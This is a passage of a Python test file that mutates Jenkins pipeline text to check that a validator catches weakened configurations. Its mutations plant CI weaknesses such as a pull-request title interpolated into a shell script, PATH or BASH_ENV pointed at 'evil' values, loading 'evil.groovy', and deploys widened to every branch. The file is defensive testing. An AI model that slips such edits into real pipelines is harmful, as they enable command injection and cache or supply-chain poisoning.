    return replaced(text, r"^ *disableRestartFromStage\(\)\n", "")


@kind
def a_newer_run_ends_older_ones(text: str) -> Iterator[str]:
    yield from within(text, jobs(text), r"^( *)steps \{\n", r"\1steps {\n\1    milestone(1)\n")
    yield from replaced(text, r"abortPrevious: .*?\)$", "abortPrevious: env.BRANCH_NAME != 'x')")


@kind
def what_comes_last_looks_at_the_result(text: str) -> Iterator[str]:
    for word in ("failure", "success", "unstable", "aborted", "changed"):
        yield from within(text, (b for b in jobs(text) if "always {" in b.text), r"^( *)always \{", rf"\1{word} {{")


@kind
def a_workspace_is_left_for_others(text: str) -> Iterator[str]:
    yield from replaced(text, r"^ *post \{ cleanup \{ deleteDir\(\) \} \}\n", "")
    yield from replaced(text, r"^ *cleanup \{ deleteDir\(\) \}\n", "")
    yield from replaced(text, r"deleteDir\(\)", "echo 'done'")


# --- stages, again


@kind
def a_machine_is_taken_for_nothing(text: str) -> Iterator[str]:
    yield from within(text, jobs(text), r"^ *before(Agent|Options) true\n", "")
    yield from within(text, jobs(text), r"beforeOptions true", "beforeAgent true")


@kind
def a_stage_stands_in_a_matrix(text: str) -> Iterator[str]:
    for block in jobs(text):
        yield (
            text[: block.start]
            + re.sub(
                r"^( *)agent ",
                r"\1matrix { axes { axis { name 'A'; values 'a', 'b' } } }\n\1agent ",
                block.text,
                count=1,
                flags=re.M,
            )
            + text[block.end :]
        )


@kind
def a_stage_asks_for_a_person_s_input(text: str) -> Iterator[str]:
    asked = re.findall(r"stage\('approve ([^']+)'\)", text)
    free = (block for block in jobs(text) if not block.name.endswith(tuple(asked or ["-"])))
    return within(text, free, r"^( *)agent ", r"\1input { message 'Go on?' }\n\1agent ")


@kind
def a_stage_has_tools(text: str) -> Iterator[str]:
    return within(text, jobs(text), r"^( *)agent ", r"\1tools { jdk 'evil' }\n\1agent ")


@kind
def a_condition_takes_anything_else(text: str) -> Iterator[str]:
    yield from replaced(text, r"^( *)when \{\n(.*\n)", r"\1when {\n\2\1    anyOf { branch 'x'; expression { true } }\n")
    yield from replaced(text, r"expression \{\n", "expression { true ||\n")


@kind
def a_deployment_runs_on_every_branch(text: str) -> Iterator[str]:
    for block in stages(text):
        if block.name.startswith("deploy") and "when {" in block.text:
            wide = re.sub(r"env\.BRANCH_NAME == '[^']*'", "env.BRANCH_NAME != ''", block.text)
            if wide != block.text and "env.JENKINS_EVENT in ['push'" in block.text + "env.JENKINS_EVENT in ['push'":
                yield text[: block.start] + wide + text[block.end :]


@kind
def a_pattern_is_wider(text: str) -> Iterator[str]:
    return replaced(text, r"==~ /[^\n]*?/(?= |\)|$)", "==~ /.*/")


# --- files, again


@kind
def files_are_not_kept(text: str) -> Iterator[str]:
    return replaced(text, r"^ *archiveArtifacts .*\n", "")


@kind
def more_files_are_kept(text: str) -> Iterator[str]:
    return replaced(text, r"archiveArtifacts artifacts: '[^']*'", "archiveArtifacts artifacts: '**'")


@kind
def a_stash_holds_more(text: str) -> Iterator[str]:
    yield from replaced(text, r"(stash name: '[^']*', includes: ')", r"\1src/**, ")
    yield from replaced(text, r"(stash name: '[^']*', )includes: '[^']*', ", r"\1")


@kind
def two_stashes_are_swapped(text: str) -> Iterator[str]:
    for block in jobs(text):
        names = re.findall(r"stash name: '([^']*)'", block.text)
        for one, other in pairwise(names):
            changed = block.text.replace(f"stash name: '{one}'", "stash name: '\0'")
            changed = changed.replace(f"stash name: '{other}'", f"stash name: '{one}'").replace("\0", other)
            yield text[: block.start] + changed + text[block.end :]


@kind
def another_stash_is_received(text: str) -> Iterator[str]:
    names = re.findall(r"stash name: '([^']+)'", text)
    for one, other in pairwise(names):
        yield from replaced(text, rf"unstash '{re.escape(one)}'", f"unstash '{other}'")


@kind
def a_cache_is_of_all_versions_of_its_files(text: str) -> Iterator[str]:
    yield from replaced(text, r", cacheValidityDecidingFile: '[^']*'", "")
    yield from replaced(text, r"cacheValidityDecidingFile: '[^']*'", "cacheValidityDecidingFile: 'README.md'")


@kind
def a_cache_holds_more(text: str) -> Iterator[str]:
    return replaced(
        text, r"caches: \[arbitraryFileCache\(", "caches: [arbitraryFileCache(path: 'src'), arbitraryFileCache("
    )


@kind
def a_cache_of_pull_requests_is_used_by_all(text: str) -> Iterator[str]:
    return replaced(text, r"defaultBranch: '[^']*'", "defaultBranch: env.CHANGE_BRANCH")


# --- values, again


@kind
def a_timeout_has_another_unit(text: str) -> Iterator[str]:
    return replaced(text, r"(timeout -k 30 \d+)m ", r"\1h ")


@kind
def groovy_fills_in_a_script(text: str) -> Iterator[str]:
    for block in jobs(text):
        found = re.search(r"script: '''(#!(?:[^'\\$]|'(?!''))*)'''", block.text)
        if found:
            new = 'script: """' + found[1] + ' ${env.CHANGE_TITLE}"""'
            yield text[: block.start] + block.text.replace(found[0], new) + text[block.end :]


@kind
def a_variable_of_all_stages_is_added(text: str) -> Iterator[str]:
    for line in ("PATH = '/evil'", "BASH_ENV = 'evil.sh'", 'PYTHONPATH = "${env.WORKSPACE}/evil"'):
        yield from replaced(text, r"^( *)JENKINS_EVENT = event\(\)\n", rf"\1JENKINS_EVENT = event()\n\1{line}\n")


@kind
def a_row_has_another_end(text: str) -> Iterator[str]:
    yield from replaced(text, r"result: '(?:failure|any)'", "result: 'any'")
    yield from replaced(text, r" permitted: true", " permitted: false")


@kind
def a_library_s_step_is_called(text: str) -> Iterator[str]:
    yield from within(text, jobs(text), r"^( *)steps \{\n", r"\1steps {\n\1    library 'evil'\n")
    yield from within(text, jobs(text), r"^( *)steps \{\n", r"\1steps {\n\1    load 'evil.groovy'\n")
    yield from within(text, jobs(text), r"^( *)steps \{\n", r"\1steps {\n\1    evaluate(readFile('evil.groovy'))\n")


@kind
def another_trigger_starts_runs(text: str) -> Iterator[str]:
    yield from replaced(text, r"^    triggers \{\n", "    triggers {\n        pollSCM('* * * * *')\n")
    yield from replaced(text, r"^    triggers \{\n", "    triggers {\n        upstream(upstreamProjects: 'evil')\n")


@pytest.mark.parametrize("name", KINDS)
def test_a_mutant_is_told(name: str) -> None:
    fast = [each for each in emitted() if each.project.name not in SLOW]
    slow = [each for each in emitted() if each.project.name in SLOW]
    count, found = text_survivors(TARGET, fast, KINDS[name])
    if count < ENOUGH:
        more, others = text_survivors(TARGET, slow, KINDS[name])
        count, found = count + more, [*found, *others]
    assert count, "a kind of damage that applies nowhere"
    assert not found, "\n\n".join(found)


def test_there_are_enough_kinds() -> None:
    assert len(KINDS) >= 90
